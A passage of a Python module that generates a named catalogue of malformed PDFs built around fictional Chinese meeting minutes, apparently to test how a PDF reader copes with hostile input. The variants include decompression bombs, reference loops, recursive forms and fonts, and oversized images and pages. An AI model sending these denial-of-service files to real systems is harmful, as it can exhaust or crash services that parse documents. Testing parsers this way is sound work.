"""PDF files that attack their reader, each made by a few lines: ATTACKS has them by name."""
import zlib

MINUTES = ['云州市人民政府常务会议纪要', '　　2024年3月5日上午，甲乙丙市长主持召开市政府第12次常务',
           '会议，审议《云州市河道管理办法》。会议议定以下意见：', '　　一、审议《云州市河道管理办法》',
           '　　原则同意《云州市河道管理办法》。由市水务局按程序发文实施。']
FONT, CONTENT, FREE = 3, 8, 9                   # objects: the font, the page's content, what an attack adds
PAGE = (b'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 8 0 R /Resources << /Font << /F1 '
        b'3 0 R >> %s >> %s >>')


def stream(data, entries=b''):
    return b'<< /Length %d %s >>\nstream\n%s\nendstream' % (len(data), entries, data)


def deflated(data, entries=b''):
    return stream(zlib.compress(data, 9), b'/Filter /FlateDecode ' + entries)


def show(text, x=80, y=700, size=b'16'):
    return b'BT /F1 %s Tf %d %d Td <%s> Tj ET\n' % (size, x, y, text.encode('utf-16-be').hex().encode())


TEXT = b''.join(show(text, y=720 - 28 * i) for i, text in enumerate(MINUTES))
WORDS = {
    1: b'<< /Type /Catalog /Pages 2 0 R >>',
    2: b'<< /Type /Pages /Kids [7 0 R] /Count 1 >>',
    3: b'<< /Type /Font /Subtype /Type0 /BaseFont /Stand-In /Encoding /Identity-H /DescendantFonts [4 0 '
       b'R] /ToUnicode 6 0 R >>',
    4: b'<< /Type /Font /Subtype /CIDFontType2 /BaseFont /Stand-In /DW 1000 /CIDSystemInfo << /Registry '
       b'(Adobe) '
       b'/Ordering (Identity) /Supplement 0 >> /FontDescriptor 5 0 R >>',
    5: b'<< /Type /FontDescriptor /FontName /Stand-In /Flags 4 /ItalicAngle 0 /FontBBox [0 -120 1000 880] '
       b'/Ascent 880 /Descent -120 /StemV 80 >>',
    6: stream(b'1 begincodespacerange <0000> <ffff> endcodespacerange\n1 beginbfrange <0000> <ffff> '
              b'<0000> endbfrange'),
    7: PAGE % (b'', b''),
    8: stream(TEXT),
}


def table(places, size):
    return b''.join(
        b'%010d 00000 n \n' %
        places[n] if n in places else b'0000000000 65535 f \n' for n in range(size))


def pdf(objects=None, trailer=b'', size=None, xref=True):
    """The minutes, OBJECTS in the place of theirs."""
    out, places = bytearray(b'%PDF-1.5\n'), {}
    for n, body in {**WORDS, **(objects or {})}.items():
        places[n] = len(out)
        out += b'%d 0 obj\n%s\nendobj\n' % (n, body)
    top = max(places) + 1
    start = len(out)
    if xref:
        out += b'xref\n0 %d\n%s' % (top, table(places, top))
    return bytes(
        out) + b'trailer\n<< /Root 1 0 R /Size %d %s >>\nstartxref\n%d\n%%%%EOF\n' % (size or top, trailer,
            start)


def content(data, resources=b'', entries=b'', **more):
    objects = {7: PAGE % (resources, entries), 8: deflated(data) if len(data) > 20000 else stream(data)}
    objects.update({int(k[1:]): v for k, v in more.items()})
    return pdf(objects)


def form(data, resources=b''):
    return deflated(
        data,
        b'/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> %s >>' %
        resources)


def type3(glyph, resources=b''):
    return {
        9: b'<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1000 1000] /FontMatrix [.001 0 0 .001 0 0] '
           b'/CharProcs << /a 10 0 R >> '
        b'/Encoding << /Type /Encoding /Differences [97 /a] >> /FirstChar 97 /LastChar 97 /Widths [1000] '
        b'/Resources << %s >> >>' %
        resources, 10: stream(glyph)}


def levels(depth, width):
    """Forms that draw WIDTH forms each, DEPTH deep."""
    more = {
        FREE +
        i: form(
            b'/X Do ' *
            width,
            b'/XObject << /X %d 0 R >>' %
            (FREE +
             i +
             1)) for i in range(depth)}
    more[FREE + depth] = form(show('甲乙丙'))
    return pdf({7: PAGE % (b'/XObject << /X 9 0 R >>', b''), 8: stream(TEXT + b'/X Do'), **more})


def bomb(size, fill=b' '):
    """SIZE and more of FILL.  Deflated is one block of it, and that is repeated: after a full flush no
    block knows of those before.  The checksum at the end is added up alike."""
    block = fill * ((1 << 20) // len(fill))
    count = -(-size // len(block))
    squeeze = zlib.compressobj(9)
    deflated_block = squeeze.compress(block) + squeeze.flush(zlib.Z_FULL_FLUSH)
    added = zlib.adler32(block, 0)
    low, high = 1, 0
    for _ in range(count):
        high = (high + len(block) * low + (added >> 16)) % 65521
        low = (low + (added & 0xffff)) % 65521
    return deflated_block + deflated_block[2:] * (count - 1) + b'\3\0' + (high << 16 | low).to_bytes(4, 'big')


def pages_there(count):
    """Pages, each an object of its own."""
    first = max(WORDS) + 1
    kids = b' '.join(b'%d 0 R' % (first + i) for i in range(count))
    return pdf({2: b'<< /Type /Pages /Kids [%s] /Count %d >>' % (kids, count),
                **{first + i: b'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>' for i in range(count)}})


GREY = b'/Width %d /Height %d /ColorSpace /DeviceGray /BitsPerComponent 8'


def picture(entries, data):
    return pdf({7: PAGE % (b'/XObject << /I 9 0 R >>', b''), 8: stream(b'q 500 0 0 700 40 40 cm /I Do Q'),
                9: stream(data, b'/Type /XObject /Subtype /Image ' + entries)})


def objects_in(streams, more=b''):
    """Objects in streams of objects, by a cross-reference stream: STREAMS are entries of it."""
    out, places = bytearray(b'%PDF-1.5\n'), {}
    for n, body in {**WORDS, **streams}.items():
        if isinstance(body, bytes):
            places[n] = len(out)
            out += b'%d 0 obj\n%s\nendobj\n' % (n, body)
    top = max([*places, *streams]) + 2
    start = len(out)
    rows = b''
    for n in range(top):
        entry = streams.get(n)
        kind, a, b = (2, *entry) if isinstance(entry, tuple) else (1,
                                                                   places[n], 0) if n in places else (0, 0, 0)
        if n == top - 1:
            kind, a, b = 1, start, 0
        rows += bytes([kind]) + a.to_bytes(4, 'big') + bytes([b])
    return bytes(out) + b'%d 0 obj\n' % (top - 1) + stream(rows,
                                                           b'/Type /XRef /W [1 4 1] /Root 1 0 R /Size %d %s' % (top,
                                                                                                                more)) + b'\nendobj\nstartxref\n%d\n%%%%EOF\n' % start


def cmap(body):
    return pdf({6: deflated(b'/CMapName /X def 1 begincodespacerange <0000> <ffff> endcodespacerange\n' + body)})


def font_file(key, data, entries=b''):
    return pdf({4: WORDS[4].replace(
        b'CIDFontType2', b'CIDFontType0' if key == b'FontFile3' else b'CIDFontType2'),
        5: WORDS[5][: -2] + b'/%s 9 0 R >>' % key, 9: stream(data, entries)})


def struct(extra, **more):
    head = b'/MarkInfo << /Marked true >> /StructTreeRoot 9 0 R'
    grid = b''.join(
        b'/P << /MCID %d >> BDC %s EMC\n' %
        (i, show(t, x=80 + 240 * (i % 2),
                 y=600 - 16 * i, size=b'12')) for i,
        t in enumerate(['姓名', '单位及职务', '甲乙丙', '云州市发展和改革委', '丁戊', '员会']))
    return pdf({1: b'<< /Type /Catalog /Pages 2 0 R %s >>' % head, 7: PAGE % (b'', b'/StructParents 0'),
                8: stream(TEXT + grid), 9: extra, **{int(k[1:]): v for k, v in more.items()}})


ATTACKS = {}


def many(prefix, makers):
    for name, make in makers.items():
        ATTACKS[prefix + '-' + name] = make


def constant(makers, make):
    """For each value its maker."""
    return {name: (lambda value=value: make(value)) for name, value in makers.items()}


many('pages', {
    'own-kid': lambda: pdf({2: b'<< /Type /Pages /Kids [2 0 R 7 0 R] /Count 2 >>'}),
    'kid-loop': lambda: pdf({2: b'<< /Type /Pages /Kids [9 0 R] /Count 1 >>', 9: b'<< /Type /Pages /Kids '
        b'[2 0 R] /Parent 2 0 R /Count 1 >>'}),
    'parent-loop': lambda: pdf({2: b'<< /Type /Pages /Kids [7 0 R] /Count 1 /Parent 7 0 R >>'}),
    'deep': lambda: pdf({2: b'<< /Type /Pages /Kids [9 0 R] /Count 1 >>',
                         **{9 + i: b'<< /Type /Pages /Kids [%d 0 R] /Parent %d 0 R /Count 1 >>' % (10 + i,
                             8 + i if i else 2) for i in range(5000)},
                         5009: b'<< /Type /Pages /Kids [7 0 R] /Parent 5008 0 R /Count 1 >>'}),
    'doubling': lambda: pdf({2: b'<< /Type /Pages /Kids [9 0 R 9 0 R] /Count 1073741824 >>',
                             **{9 + i: b'<< /Type /Pages /Kids [%d 0 R %d 0 R] /Parent 2 0 R /Count %d >>' % (10 + i, 10 + i, 1 << (29 - i)) for i in range(29)},
                             38: b'<< /Type /Pages /Kids [7 0 R 7 0 R] /Parent 37 0 R /Count 2 >>'}),
    'doubling-small-count': lambda: pdf({2: b'<< /Type /Pages /Kids [9 0 R 9 0 R] /Count 9000 >>',
                                         **{9 + i: b'<< /Type /Pages /Kids [%d 0 R %d 0 R] /Parent 2 0 R '
                                                   b'/Count %d >>' % (10 + i, 10 + i,
                                                       1 << (29 - i)) for i in range(29)},
                                         38: b'<< /Type /Pages /Kids [7 0 R 7 0 R] /Parent 37 0 R /Count '
                                             b'2 >>'}),
    'million-declared': lambda: pdf({2: b'<< /Type /Pages /Kids [7 0 R] /Count 1000000 >>'}),
    '2e31-declared': lambda: pdf({2: b'<< /Type /Pages /Kids [7 0 R] /Count 2147483647 >>'}),
    'negative-declared': lambda: pdf({2: b'<< /Type /Pages /Kids [7 0 R] /Count -5 >>'}),
    'ten-thousand-declared': lambda: pdf({2: b'<< /Type /Pages /Kids [7 0 R] /Count 10000 >>'}),
    'at-limit': lambda: pages_there(10000),
    'over-limit': lambda: pages_there(10001),
    'million-there': lambda: pages_there(1000000),
    'none': lambda: pdf({2: b'<< /Type /Pages /Kids [] /Count 0 >>'}),
})
many('xref', {
    'prev-self': lambda: (lambda d: pdf(trailer=b'/Prev %d' % int(d.split(b'startxref\n')[1].split()[0])))(pdf(trailer=b'/Prev 99999')),
    'prev-negative': lambda: pdf(trailer=b'/Prev -1'),
    'prev-huge': lambda: pdf(trailer=b'/Prev 99999999999999999999'),
    'hybrid-self': lambda: (lambda d: pdf(trailer=b'/XRefStm %d' % int(d.split(b'startxref\n')[1].split()[0])))(pdf(trailer=b'/XRefStm 99999')),
    'size-huge': lambda: pdf(size=99999999),
    'size-negative': lambda: pdf(size=-1),
    'size-2e63': lambda: pdf(size=1 << 63),
    'table-huge': lambda: pdf().replace(b'xref\n0 9', b'xref\n0 999999999'),
    'none': lambda: pdf(xref=False),
    'wrong': lambda: pdf().replace(b'startxref\n', b'startxref\n7'),
    'stream-self': lambda: objects_in({9: (9, 0)}),
    'stream-each-other': lambda: objects_in({9: (10, 0), 10: (9, 0)}),
    'stream-holds-itself': lambda: objects_in({9: stream(b'9 0 7 1 << >> << >>', b'/Type /ObjStm /N 2 '
        b'/First 8'), 7: (9, 1)}),
    'stream-extends-itself': lambda: objects_in({9: stream(b'7 0 ' + PAGE % (b'', b''), b'/Type /ObjStm '
        b'/N 1 /First 4 /Extends 9 0 R'), 7: (9, 0)}),
    'stream-many': lambda: objects_in({9: stream(b'7 0 ' + PAGE % (b'', b''), b'/Type /ObjStm /N 99999999 '
        b'/First 4'), 7: (9, 0)}),
    'stream-length-in-itself': lambda: objects_in({9: b'<< /Type /ObjStm /N 1 /First 4 /Length 7 0 R '
                                                      b'>>\nstream\n7 0 12\nendstream', 7: (9, 0)}),
    'index-huge': lambda: objects_in({}, b'/Index [0 2147483647]'),
    'widths-huge': lambda: objects_in({}).replace(b'/W [1 4 1]', b'/W [9999999 4 1]'),
    'reference-loop': lambda: pdf({7: b'9 0 R', 9: b'10 0 R', 10: b'9 0 R'}),
    'length-loop': lambda: pdf({8: b'<< /Length 8 0 R >>\nstream\n%s\nendstream' % TEXT}),
})
many('draws',
     {'form-itself': lambda: content(TEXT + b'/X Do',
                                     b'/XObject << /X 9 0 R >>',
                                     o9=form(b'/X Do',
                                             b'/XObject << /X 9 0 R >>')),
      'forms-each-other': lambda: content(TEXT + b'/X Do',
                                          b'/XObject << /X 9 0 R >>',
                                          o9=form(b'/X Do /X Do',
                                                  b'/XObject << /X 10 0 R >>'),
                                          o10=form(b'/X Do /X Do',
                                                   b'/XObject << /X 9 0 R >>')),
      'forms-doubling': lambda: levels(28,
                                       2),
      'forms-deep': lambda: levels(5000,
                                   1),
      'type3-itself': lambda: content(TEXT + b'BT /T 12 Tf 80 300 Td (aaaa) Tj ET',
                                      b'/Font << /T 9 0 R /F1 3 0 R >>',
                                      **{'o%d' % k: v for k,
                                         v in type3(b'1000 0 d0 BT /T 1 Tf (a) Tj ET',
                                                    b'/Font << /T 9 0 R >>').items()}),
      'pattern-itself': lambda: content(TEXT + b'/Pattern cs /P scn 0 0 500 500 re f',
                                        b'/Pattern << /P 9 0 R >>',
                                        o9=stream(b'/Pattern cs /P scn 0 0 5 5 re f',
                                                  b'/Type /Pattern /PatternType 1 /PaintType 1 '
                                                  b'/TilingType 1 /BBox [0 0 5 5] /XStep 1 /YStep 1 '
                                                  b'/Resources << /Pattern << /P 9 0 R >> >>')),
      'pattern-fine': lambda: content(TEXT + b'/Pattern cs /P scn 0 0 500 500 re f',
                                      b'/Pattern << /P 9 0 R >>',
                                      o9=stream(b'0 0 5 5 re f',
                                                b'/Type /Pattern /PatternType 1 /PaintType 1 /TilingType '
                                                b'1 /BBox [0 0 5 5] /XStep .0001 /YStep .0001 /Resources '
                                                b'<< >>')),
      'contents-itself': lambda: pdf({8: b'[8 0 R 9 0 R]',
                                      9: stream(TEXT)}),
      'contents-million': lambda: pdf({8: b'[' + b'9 0 R ' * 1000000 + b']',
                                       9: stream(TEXT)}),
      'mask-itself': lambda: content(TEXT + b'/G gs 0 0 500 500 re f',
                                     b'/ExtGState << /G 9 0 R >>',
                                     o9=b'<< /SMask << /S /Luminosity /G 10 0 R >> >>',
                                     o10=form(b'/G gs 0 0 5 5 re f',
                                              b'/ExtGState << /G 9 0 R >>')),
      'q-million': lambda: content(b'q ' * 1000000 + TEXT),
      'saves-deep': lambda: content(b'q 1 0 0 1 0 0 cm ' * 300000 + TEXT + b'Q ' * 300000),
      'marks-deep': lambda: content(b'/P << /MCID 0 >> BDC ' * 200000 + TEXT + b'EMC ' * 200000),
      'array-deep': lambda: content(b'[' * 1000000 + TEXT),
      'dict-deep': lambda: pdf({9: b'<< /A ' * 100000 + b'>> ' * 100000,
                                7: PAGE % (b'/X 9 0 R',
                                           b'')}),
      'dict-deep-inline': lambda: pdf({7: PAGE % (b'/X ' + b'[' * 300000 + b']' * 300000,
                                                  b'')}),
      'operands': lambda: content(b'1 ' * 3000000 + TEXT),
      })
many('filter', {
    'chain-1000': lambda: pdf({8: stream(b'z',
        b'/Filter [%s]' % (b'/ASCII85Decode ' * 500 + b'/FlateDecode ' * 500))}),
    'chain-100000': lambda: pdf({8: stream(b'z', b'/Filter [%s]' % (b'/ASCIIHexDecode ' * 100000))}),
    'flate-bomb': lambda: pdf({8: stream(bomb(1 << 30), b'/Filter /FlateDecode')}),
    'flate-bomb-text': lambda: pdf({8: stream(bomb(64 << 20, b'BT /F1 1 Tf 9 9 Td <4e00> Tj ET\n'),
        b'/Filter /FlateDecode')}),
    'flate-twice': lambda: pdf({8: stream(zlib.compress(bomb(1 << 32), 9), b'/Filter [/FlateDecode '
        b'/FlateDecode]')}),
    'runlength': lambda: pdf({8: stream(zlib.compress(b'\x81 ' * (1 << 24), 9), b'/Filter [/FlateDecode '
        b'/RunLengthDecode]')}),
    'lzw': lambda: pdf({8: stream(b'\x80\x0b\x60\x50\x22\x0c\x0c\x85\x01' * 1000, b'/Filter /LZWDecode')}),
    'predictor': lambda: pdf({8: stream(zlib.compress(TEXT), b'/Filter /FlateDecode /DecodeParms << '
        b'/Predictor 15 /Columns 2147483647 /Colors 999999 /BitsPerComponent 16 >>')}),
    'crypt': lambda: pdf({8: stream(TEXT, b'/Filter /Crypt /DecodeParms << /Name /Nobody >>')}),
    'filter-itself': lambda: pdf({8: stream(TEXT, b'/Filter 8 0 R')}),
})
many('cmap',
     {'all': lambda: cmap(b'1 beginbfrange <0000> <ffff> <0000> endbfrange\n' * 500),
      'wide': lambda: cmap(b'1 beginbfrange <00000000> <ffffffff> <0000> endbfrange\n'),
      'long-target': lambda: cmap(b'65536 beginbfchar\n' + b''.join(b'<%04x> <%s>\n' % (i,
                                                                                        b'4e00' * 1000) for i in range(3000)) + b'endbfchar'),
      'long-target-used': lambda: pdf({6: deflated(b'1 begincodespacerange <0000> <ffff> '
                                                   b'endcodespacerange 1 beginbfchar <4e00> <%s> endbfchar' % (b'4e00' * 4000)),
                                       8: deflated(b'BT /F1 16 Tf 80 700 Td <%s> Tj ET' % (b'4e00' * 20000))}),
      'uses-itself': lambda: pdf({6: stream(b'/Same usecmap 1 begincodespacerange <0000> <ffff> '
                                            b'endcodespacerange',
                                            b'/Type /CMap /CMapName /Same /UseCMap 6 0 R')}),
      'encoding-uses-itself': lambda: pdf({3: WORDS[3].replace(b'/Identity-H',
                                                               b'9 0 R'),
                                           9: stream(b'/Same usecmap 1 begincodespacerange <0000> <ffff> '
                                                     b'endcodespacerange 1 begincidrange <0000> <ffff> 0 '
                                                     b'endcidrange',
                                                     b'/Type /CMap /CMapName /Same /UseCMap 9 0 R')}),
      'enormous': lambda: cmap(b'100 beginbfchar\n' + b'<4e00> <4e00>\n' * 1000000 + b'endbfchar'),
      'widths': lambda: pdf({4: WORDS[4].replace(b'/DW 1000',
                                                 b'/DW 1000 /W [0 2147483647 500]')}),
      'widths-array': lambda: pdf({4: WORDS[4].replace(b'/DW 1000',
                                                       b'/DW 1000 /W [0 [' + b'500 ' * 1000000 + b']]')}),
      })
many('picture', {
    'jbig2': lambda: picture(b'/Width 1000 /Height 1000 /ColorSpace /DeviceGray /BitsPerComponent 1 '
                             b'/Filter /JBIG2Decode', bytes(range(256)) * 4),
    'jbig2-huge': lambda: picture(b'/Width 100000 /Height 100000 /ColorSpace /DeviceGray '
                                  b'/BitsPerComponent 1 /Filter /JBIG2Decode',
                                  b'\0\0\0\0\x30\0\1\0\0\0\x13' + (1 << 31).to_bytes(4, 'big') * 2 + bytes(11)),
    'jbig2-globals': lambda: picture(b'/Width 100 /Height 100 /ColorSpace /DeviceGray /BitsPerComponent 1 '
                                     b'/Filter /JBIG2Decode /DecodeParms << /JBIG2Globals 9 0 R >>',
                                         bytes(100)),
    'jpx': lambda: picture(b'/Width 1000 /Height 1000 /Filter /JPXDecode',
        b'\0\0\0\x0cjP  \r\n\x87\n' + bytes(range(256))),
    'jpx-huge': lambda: picture(b'/Width 100000 /Height 100000 /Filter /JPXDecode',
        bytes.fromhex('ff4fff51002f0000000f4240000f424000000000000000000000000100000001000000000000000000030701010701010701 01'.replace(' ', '')) + bytes(64)),
    'dct': lambda: picture(b'/Width 1000 /Height 1000 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter '
                           b'/DCTDecode',
                               bytes.fromhex('ffd8ffc0001108ffffffff03012200021101031101ffda000c03010002110311003f00') + bytes(200)),
    'ccitt': lambda: picture(b'/Width 100000 /Height 100000 /ColorSpace /DeviceGray /BitsPerComponent 1 '
                             b'/Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 2147483647 /Rows '
                             b'2147483647 >>', bytes(1000)),
    'huge': lambda: picture(b'/Width 100000 /Height 100000 /ColorSpace /DeviceRGB /BitsPerComponent 8',
        b'0' * 1000),
    'huge-flate': lambda: picture(b'/Width 30000 /Height 30000 /ColorSpace /DeviceGray /BitsPerComponent '
                                  b'8 /Filter /FlateDecode', bomb(900000000, b'\0')),
    'negative': lambda: picture(b'/Width -5 /Height -5 /ColorSpace /DeviceRGB /BitsPerComponent 8',
        b'0' * 1000),
    'bits': lambda: picture(b'/Width 100 /Height 100 /ColorSpace /DeviceRGB /BitsPerComponent 99999',
        b'0' * 1000),
    'colours-itself': lambda: pdf({7: PAGE % (b'/XObject << /I 9 0 R >>', b''), 8: stream(b'q 500 0 0 700 '
        b'40 40 cm /I Do Q'), 9: stream(b'0' * 1000, b'/Type /XObject /Subtype /Image /Width 10 /Height '
                                                     b'10 /BitsPerComponent 8 /ColorSpace 10 0 R'),
                                                         10: b'[/Indexed 10 0 R 255 (x)]'}),
    'mask-itself': lambda: picture(b'/Width 10 /Height 10 /ColorSpace /DeviceGray /BitsPerComponent 8 '
                                   b'/SMask 9 0 R', b'0' * 1000),
    'million': lambda: content(TEXT + b'q 1 0 0 1 40 40 cm /I Do Q\n' * 300000, b'/XObject << /I 9 0 R >>',
        o9=stream(b'0', b'/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray '
                        b'/BitsPerComponent 8')),
    'inline-endless': lambda: content(TEXT + b'BI /W 10 /H 10 /CS /G /BPC 8 ID ' + b'0' * 100000),
})
BOX = {
    'huge': b'[0 0 1e9 1e9]',
    'more': b'[0 0 99999999999999999999 99999999999999999999]',
    'empty': b'[0 0 0 0]',
    'negative': b'[0 0 -595 -842]',
    'far': b'[1e8 1e8 100000595 100000842]',
    'words': b'[/a /b /c /d]',
    'short': b'[0 0]',
    'nan': b'[0 0 nan inf]',
    'none': b'null',
    'sliver': b'[0 0 .0001 100000]'}
many('box', constant(BOX, lambda box: pdf({7: (PAGE % (b'', b'')).replace(b'[0 0 595 842]', box)})))
many(
    'boxed-picture',
    constant(
        BOX,
        lambda box: picture(
            GREY %
            (10,
             10),
            b'0' *
            100).replace(
                b'[0 0 595 842]',
            box)))
many('page', {
    'rotate-odd': lambda: pdf({7: PAGE % (b'', b'/Rotate 17')}),
    'rotate-huge': lambda: pdf({7: PAGE % (b'', b'/Rotate 99999999999999')}),
    'unit': lambda: pdf({7: PAGE % (b'', b'/UserUnit 1000000000')}),
    'unit-0': lambda: pdf({7: PAGE % (b'', b'/UserUnit 0')}),
})
many('glyphs',
     {'far': lambda: content(TEXT + b'BT /F1 16 Tf 1 0 0 1 1e38 100000000000000000000000000000000000000 '
                                    b'Tm <4e004e8c4e09> Tj ET'),
      'size-0': lambda: content(TEXT + show('甲乙丙',
                                            y=300,
                                            size=b'0')),
      'size-huge': lambda: content(TEXT + show('甲乙丙',
                                               y=300,
                                               size=b'1000000000000000000000000000000')),
      'size-negative': lambda: content(TEXT + show('甲乙丙',
                                                   y=300,
                                                   size=b'-16')),
      'size-tiny': lambda: content(TEXT + show('甲乙丙',
                                               y=300,
                                               size=b'.00000000001')),
      'all-huge': lambda: content(TEXT.replace(b'16 Tf',
                                               b'100000000000 Tf')),
      'matrix-0': lambda: content(TEXT + b'BT /F1 16 Tf 0 0 0 0 80 300 Tm <4e004e8c4e09> Tj ET'),
      'matrix-huge': lambda: content(b'999999999999999999999 0 0 999999999999999999999 0 0 cm ' * 40 + TEXT),
      'one-place': lambda: content(TEXT + b'BT /F1 16 Tf ' + b'1 0 0 1 80 300 Tm <4e00> Tj ' * 99000 + b'ET'),
      'one-place-1e6': lambda: content(TEXT + b'BT /F1 16 Tf ' + b'1 0 0 1 80 300 Tm <4e00> Tj ' * 1000000 + b'ET'),
      'one-line': lambda: content(TEXT + b'BT /F1 .01 Tf 80 300 Td <%s> Tj ET' % (b'4e004e8c' * 49000)),
      'tiny-lines': lambda: content(TEXT + b'BT /F1 .01 Tf 80 600 Td ' + b'0 -.02 Td <4e00> Tj ' * 20000 + b'ET'),
      'tiny-lines-1e5': lambda: content(TEXT + b'BT /F1 .001 Tf 80 600 Td ' + b'0 -.002 Td <4e00> Tj ' * 99000 + b'ET'),
      'scattered': lambda: content(TEXT + b'BT /F1 1 Tf ' + b''.join(b'1 0 0 1 %d %d Tm <4e00> Tj ' % (i * 7919 % 590,
                                                                                                       i * 104729 % 840) for i in range(30000)) + b'ET'),
      'oblique': lambda: content(TEXT + b'BT /F1 1 Tf ' + b''.join(b'1 0 0 1 %d %d Tm <4e004e8c> Tj ' % (i % 290 * 2,
                                                                                                         i // 290 * 2) for i in range(49000)) + b'/F1 40 Tf ' + b''.join(b'1 0 0 1 %d %d Tm <7532> Tj ' % (i % 20 * 30 + 3 * (i // 20),
                                                                                                                                                                                                           i // 20 * 40 + 7 * (i % 20)) for i in range(390)) + b'ET'),
      'fonts': lambda: pdf({7: PAGE.replace(b'/F1 3 0 R',
                                            b' '.join(b'/F%d 3 0 R' % i for i in range(1,
                                                                                       100000))) % (b'',
                                                                                                    b''),
                            8: stream(TEXT + b''.join(b'BT /F%d 9 Tf 80 300 Td <4e00> Tj ET ' % i for i in range(1,
                                                                                                                 2000)))}),
      'fonts-doubtful': lambda: pdf({2: b'<< /Type /Pages /Kids [%s] /Count 200 >>' % (b'7 0 R ' * 200),
                                     7: PAGE.replace(b'/F1 3 0 R',
                                                     b' '.join(b'/F%d 3 0 R' % i for i in range(1,
                                                                                                5000))) % (b'',
                                                                                                           b''),
                                     8: stream(TEXT + show('ꀀꀁ\u0e01',
                                                           y=300))}),
      'controls': lambda: content(TEXT + show(''.join(map(chr,
                                                          range(0x20))) + '\u202e甲乙\u2066丙\ufeff\ufffe\uffff\ue000',
                                              y=300)),
      'surrogates': lambda: content(TEXT + b'BT /F1 16 Tf 80 300 Td <d800dc00dfffd8004e00> Tj ET'),
      'rtl': lambda: content(TEXT + show('\u05d0\u05d1\u0627\u0628' * 5000,
                                         y=300,
                                         size=b'.1')),
      })
RULES = b''.join(b'80 %g m 520 %g l S ' %
                 (y / 4, y / 4) for y in range(400, 2200, 1)) + b''.join(b'%g 100 m %g 550 l S ' %
                                                                         (x / 4, x / 4) for x in range(320,
                                                                             2080, 1))
many(
    'rules',
    {
        'grid': lambda: content(
            TEXT +
            RULES +
            b'BT /F1 .2 Tf ' +
            b''.join(
                b'1 0 0 1 %g %g Tm <4e004e8c> Tj ' %
                (81 +
                 i *
                 7 %
                 430,
                 101 +
                 i *
                 11 %
                 440) for i in range(20000)) +
            show(
                '姓名',
                x=81,
                y=480)[
                2:-
                3] +
            b' ET' +
            show(
                '单位',
                x=300,
                y=480) +
            show(
                '姓名',
                x=81,
                y=440) +
            show(
                '单位',
                x=300,
                y=440)),
        'tables': lambda: content(
            TEXT +
            b''.join(
                b'%d %d 6 6 re %d %d m %d %d l S ' %
                (x,
                 y,
                 x +
                 3,
                 y,
                 x +
                 3,
                 y +
                 6) for x in range(
                    80,
                    500,
                    10) for y in range(
                    100,
                    600,
                    24)) +
            b'BT /F1 2 Tf ' +
            b''.join(
                b'1 0 0 1 %g %g Tm <4e004e8c> Tj ' %
                (x +
                 d,
                 y +
                 2) for x in range(
                    80,
                    500,
                    10) for d in (
                    0,
                    3) for y in range(
                    100,
                    600,
                    24)) +
            b'ET' +
            show(
                '姓 名  单位',
                x=80,
                y=60) +
            show(
                '姓  名 单位',
                x=80,
                y=40)),
        'million': lambda: content(
            TEXT +
            b'80 80 m 520 80 l S ' *
            1000000),
        'path': lambda: content(
            TEXT +
            b'80 80 m ' +
            b'520 80 l 80 80 l ' *
            500000 +
            b'S'),
    })
NUMS = b'<< /Type /StructTreeRoot /ParentTree %s >>'
many('tree',
     {'numbers-itself': lambda: struct(NUMS % b'10 0 R',
                                       o10=b'<< /Kids [10 0 R 10 0 R] >>'),
      'numbers-wide': lambda: struct(NUMS % b'10 0 R',
                                     o10=b'<< /Kids [%s] >>' % (b'10 0 R ' * 100)),
      'parents-loop': lambda: struct(NUMS % b'<< /Nums [0 [10 0 R 10 0 R 10 0 R 10 0 R 10 0 R 10 0 R]] >>',
                                     o10=b'<< /S /TD /P 11 0 R >>',
                                     o11=b'<< /S /TR /P 10 0 R >>'),
      'kids-itself': lambda: struct(NUMS % b'<< /Nums [0 [12 0 R 12 0 R 12 0 R 12 0 R 12 0 R 12 0 R]] >>',
                                    o10=b'<< /S /Table /K [%s] >>' % (b'11 0 R ' * 1000),
                                    o11=b'<< /S /TBody /P 10 0 R /K [%s] >>' % (b'13 0 R ' * 1000),
                                    o12=b'<< /S /TD /P 13 0 R >>',
                                    o13=b'<< /S /TR /P 10 0 R /K [%s] >>' % (b'14 0 R ' * 1000),
                                    o14=b'<< /S /Span /P 13 0 R >>'),
      'spans': lambda: struct(NUMS % b'<< /Nums [0 [12 0 R 12 0 R 12 0 R 12 0 R 12 0 R 12 0 R]] >>',
                              o10=b'<< /S /Table /K [11 0 R] >>',
                              o11=b'<< /S /TR /P 10 0 R /K [%s] >>' % (b'12 0 R ' * 100000),
                              o12=b'<< /S /TD /P 11 0 R /A << /O /Table /ColSpan 2147483647 /RowSpan '
                                  b'2147483647 >> >>'),
      'structure-loop': lambda: struct(b'<< /Type /StructTreeRoot /K 9 0 R /ParentTree << /Nums [0 [9 0 R '
                                       b'9 0 R]] >> >>'),
      'structure-deep': lambda: struct(NUMS.replace(b'>>',
                                                    b'/K 10 0 R >>') % b'<< /Nums [] >>',
                                       **{'o%d' % n: b'<< /S /Div /P %d 0 R /K [%d 0 R] >>' % (n - 1,
                                                                                               n + 1) for n in range(10,
                                                                                                                     20000)}),
      'outlines-loop': lambda: pdf({1: b'<< /Type /Catalog /Pages 2 0 R /Outlines 9 0 R >>',
                                    9: b'<< /First 10 0 R /Last 10 0 R /Count 999999999 >>',
                                    10: b'<< /Title (a) /Parent 9 0 R /Next 10 0 R /First 9 0 R >>'}),
      'names-loop': lambda: pdf({1: b'<< /Type /Catalog /Pages 2 0 R /Names << /Dests 9 0 R '
                                    b'/EmbeddedFiles 9 0 R /JavaScript 9 0 R >> >>',
                                 9: b'<< /Kids [9 0 R 9 0 R] >>'}),
      'threads-loop': lambda: pdf({1: b'<< /Type /Catalog /Pages 2 0 R /Threads [9 0 R] >>',
                                   9: b'<< /F 10 0 R >>',
                                   10: b'<< /T 9 0 R /N 10 0 R /V 10 0 R /P 7 0 R /R [0 0 9 9] >>'}),
      'layers-loop': lambda: pdf({1: b'<< /Type /Catalog /Pages 2 0 R /OCProperties << /OCGs [9 0 R] /D '
                                     b'<< /Order 10 0 R >> >> >>',
                                  9: b'<< /Type /OCG /Name (x) >>',
                                  10: b'[9 0 R 10 0 R]'}),
      'annotations-loop': lambda: pdf({7: PAGE % (b'',
                                                  b'/Annots [9 0 R 9 0 R]'),
